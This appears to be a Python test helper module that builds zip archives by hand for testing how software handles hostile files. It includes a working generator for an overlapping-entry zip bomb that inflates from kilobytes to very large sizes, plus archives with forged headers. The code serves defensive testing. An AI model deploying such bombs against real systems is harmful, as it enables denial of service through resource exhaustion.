"""Zip archives built byte by byte at run time: zip bombs and archives the zipfile module will not write.

Used by the tests and by `benchmarks/hostile_files.py`; nothing here is committed as a binary file.
"""

from __future__ import annotations

import random
import struct
import zlib
from dataclasses import dataclass

_LOCAL = struct.Struct("<4sHHHHHIIIHH")
_CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")
_END = struct.Struct("<4sHHHHIIH")
_DEFLATED = 8


@dataclass(frozen=True)
class RawMember:
    """A member as it is written: its name, its (already compressed) data and what it claims."""

    name: str
    data: bytes
    method: int
    crc: int
    size: int  # uncompressed size, as claimed
    flags: int = 0  # general purpose bits: 0x1 claims the member is encrypted


def deflate(data: bytes, level: int = 9) -> bytes:
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def deflated_member(name: str, content: bytes) -> RawMember:
    return RawMember(name, deflate(content), _DEFLATED, zlib.crc32(content), len(content))


def raw_zip(members: list[RawMember]) -> bytes:
    """A well-formed archive of `members`, one after the other (no overlap)."""
    body = bytearray()
    central = bytearray()
    for member in members:
        name = member.name.encode()
        offset = len(body)
        sizes = (member.crc, len(member.data), member.size)
        body += _local_header(name, member.method, *sizes, flags=member.flags) + member.data
        central += _central_header(name, member.method, *sizes, offset, flags=member.flags)
    return bytes(body + central + _end_record(len(members), len(central), len(body)))


def overlapping_zip(members: int, kernel_bytes: int) -> bytes:
    """A non-recursive zip bomb with overlapping entries (David Fifield's "quoted overlap" construction).

    Every entry's compressed data runs to the end of one shared deflate kernel; in front of it, a
    stored deflate block "quotes" the local header of the next entry, so each header still matches
    its central directory record. Entry i inflates to the headers of entries i+1.. plus the kernel,
    so the archive inflates to about `members * kernel_bytes` from a few kilobytes. CRCs are left at
    zero: computing them would mean inflating the bomb.
    """
    kernel = deflate(b"\0" * kernel_bytes)
    names = [f"{index:06d}.txt".encode() for index in range(members)]
    headers: list[bytes] = [b""] * members
    sizes: list[tuple[int, int]] = [(0, 0)] * members
    compressed, uncompressed = len(kernel), kernel_bytes
    for index in reversed(range(members)):
        sizes[index] = (compressed, uncompressed)
        headers[index] = _local_header(names[index], _DEFLATED, 0, compressed, uncompressed)
        compressed += 5 + len(headers[index])  # the previous entry quotes this header
        uncompressed += len(headers[index])
    body = bytearray()
    central = bytearray()
    for index, header in enumerate(headers):
        offset = len(body)
        body += header
        if index + 1 < members:
            quoted = len(headers[index + 1])
            body += b"\0" + struct.pack("<HH", quoted, quoted ^ 0xFFFF)  # a stored deflate block, not final
        central += _central_header(names[index], _DEFLATED, 0, *sizes[index], offset)
    body += kernel
    return bytes(body + central + _end_record(members, len(central), len(body)))


def repetitive_text(size: int, seed: int = 1) -> bytes:
    """Log-like printable text that deflates about 60:1: under any bomb ratio, yet small on disk.

    Eight lines of random words repeat with a line counter in front, which keeps deflate's matches
    to one line each.
    """
    rnd = random.Random(seed)
    words = ["".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rnd.randint(2, 9))) for _ in range(400)]
    lines = [" ".join(rnd.choice(words) for _ in range(40)) for _ in range(8)]
    out: list[str] = []
    written = index = 0
    while written < size:
        line = f"{index:08d} {lines[index % 8]}\n"
        out.append(line)
        written += len(line)
        index += 1
    return "".join(out).encode()[:size]


def _local_header(name: bytes, method: int, crc: int, compressed: int, size: int, *, flags: int = 0) -> bytes:
    return _LOCAL.pack(b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, compressed, size, len(name), 0) + name


def _central_header(
    name: bytes, method: int, crc: int, compressed: int, size: int, offset: int, *, flags: int = 0
) -> bytes:
    fields = (b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, crc, compressed, size, len(name), 0, 0, 0, 0, 0, offset)
    return _CENTRAL.pack(*fields) + name


def _end_record(entries: int, central_size: int, central_offset: int) -> bytes:
    return _END.pack(b"PK\x05\x06", 0, 0, entries, entries, central_size, central_offset, 0)
